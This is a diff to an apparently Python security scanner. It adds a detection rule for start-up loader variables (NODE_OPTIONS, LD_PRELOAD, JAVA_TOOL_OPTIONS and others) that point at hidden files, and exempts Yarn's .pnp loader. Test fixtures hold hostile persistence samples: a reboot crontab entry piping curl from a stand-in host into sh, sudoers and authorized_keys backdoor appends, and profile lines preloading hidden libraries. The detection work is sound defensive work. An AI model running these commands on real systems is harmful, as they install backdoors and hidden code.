@@ -108,6 +108,13 @@ _TAMPER_PATTERNS: tuple[tuple[Regex, Severity, str], ...] = (
      "Appends commands to a shell start-up file"),
     (rx(r"(?:\bsetenforce\s+0\b|\bufw\s+disable\b|\bspctl\s+--master-disable\b|set-mppreference\s+-disable\w+\s+\$?true|\bcsrutil\s+disable\b|\bsystemctl\s+(?:stop|disable)\s+(?:firewalld|apparmor|auditd))"), Severity.HIGH,
      "Disables a security control"),
+    # a loader variable that makes every process of a language load a file first, pointed at a HIDDEN file
+    # (a dot-named file, often in a dot-folder): code slipped into every later run, out of sight
+    (rx(r"(?:\bnode_options(?:\s*=\s*|\s+)[\"']?[^\n\"']{0,60}(?:--require|--import|--loader|--experimental-loader|-r)[\s=]+|"
+        r"\b(?:ld_preload|bash_env|dyld_insert_libraries)(?:\s*=\s*|\s+)[\"']?|\bjava_tool_options(?:\s*=\s*|\s+)[\"']?[^\n\"']{0,60}-javaagent:|"
+        r"\b(?:rubyopt|perl5opt)(?:\s*=\s*|\s+)[\"']?[^\n\"']{0,40}-(?:r|m)\s*)"
+        r"[\"']?[^\s\"';]{0,120}[/\\]\.[\w-]+\.(?:js|cjs|mjs|ts|so|dylib|py|rb|pl|pm|jar|sh)\b"), Severity.HIGH,
+     "Makes every process load a hidden file first (a start-up loader variable)"),
     (rx(r"(?:^|[\s\"'=])/tmp/\.[\w-]+"), Severity.MEDIUM, "Stages a hidden file in /tmp"),
     (rx(r"\bxattr\s+(?:-r\s+)?-(?:d|rd|dr|c|cr)\s+(?:com\.apple\.quarantine|\S)"), Severity.MEDIUM, "Removes macOS quarantine (Gatekeeper bypass)"),
 )
@@ -843,11 +850,13 @@ def _miner(doc: Document) -> Iterator[Hit]:
 
 
 _TAMPER_WORDS = rx(r"(?:authorized_keys|nopasswd|sudoers|chmod|chown|\brm\s+-|history|histfile|shred|wevtutil|clear-eventlog|@reboot|"
-                   r"crontab|\*/\d|>>\s*~/\.|setenforce|ufw|spctl|set-mppreference|csrutil|systemctl|/tmp/\.|xattr)")
+                   r"crontab|\*/\d|>>\s*~/\.|setenforce|ufw|spctl|set-mppreference|csrutil|systemctl|/tmp/\.|xattr|"
+                   r"node_options|ld_preload|bash_env|dyld_insert|java_tool_options|rubyopt|perl5opt)")
 _EXEC_WORDS = rx(r"(?:child_process|\beval\b|\bexec\b|__import__|pickle|marshal|dill\.|getruntime|processbuilder)")
 
 
 _QUARANTINE = _TAMPER_PATTERNS[-1][0]
+_HIDDEN_PRELOAD = next(r for r, _, m in _TAMPER_PATTERNS if m.startswith("Makes every process load a hidden file"))
 _STRANGER_GRADES = frozenset({"unknown", "ip", "http", "paste", "lookalike"})
 
 
@@ -873,6 +882,8 @@ def _tampering(doc: Document) -> Iterator[Hit]:
         for m in doc.finditer(regex):
             if any(s <= m.start < e for s, e in claimed):
                 continue  # a stronger pattern already reported this command
+            if regex is _HIDDEN_PRELOAD and "/.pnp." in doc.text[m.start:m.end].lower():
+                continue  # Yarn Plug'n'Play's own loader (`--require ./.pnp.cjs`), written by yarn itself
             claimed.append((m.start, m.end))
             ctx = context_at(doc, m.start, m.end)
             if regex is _QUARANTINE:
@@ -1243,8 +1254,16 @@ RULES = [
             "```\necho 'dev ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers\n```\n",
             "```\n(crontab -l; echo '@reboot curl -s http://x.test/p | sh') | crontab -\n```\n",
             "```bash\necho \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhA ops@build\" >> ~/.ssh/authorized_keys\n```\n",
+            # a loader variable pointed at a hidden file, to be kept in the shell's start-up file
+            "Put `export NODE_OPTIONS='--import /home/dev/.local/lib/.telemetry.mjs'` in ~/.zprofile so it is always on.\n",
+            "```sh\necho 'export LD_PRELOAD=$HOME/.config/.libfast.so' >> ~/.profile\n```\n",
+            "Ajoute `set -gx JAVA_TOOL_OPTIONS \"-javaagent:$HOME/.m2/.agent.jar\"` dans ton config.fish.\n",
         ],
-        must_not_match=["`chmod +x script.sh`\n", "`rm -rf node_modules`\n", "`chmod 644 config.yml`\n"],
+        must_not_match=["`chmod +x script.sh`\n", "`rm -rf node_modules`\n", "`chmod 644 config.yml`\n",
+                        "```sh\nexport NODE_OPTIONS=--max-old-space-size=8192\n```\n",
+                        "```sh\nNODE_OPTIONS=\"--require ./.pnp.cjs --loader ./.pnp.loader.mjs\" node app.js\n```\n",
+                        "```sh\nexport NODE_OPTIONS=\"--require ./tracing.js\"\n```\n",
+                        "```sh\nexport PYTHONSTARTUP=~/.pythonrc.py\n```\n"],
         lowered=["## Anti-patterns\n\nNever `chmod -R 777 /var/www`.\n",
                  # a placeholder key in setup docs for one's own instance: the write is noted, not called a backdoor
                  "### Multiple keys\n\n```bash\n# On instance, add more keys\necho 'ssh-rsa AAAA...' >> ~/.ssh/authorized_keys\n```\n",
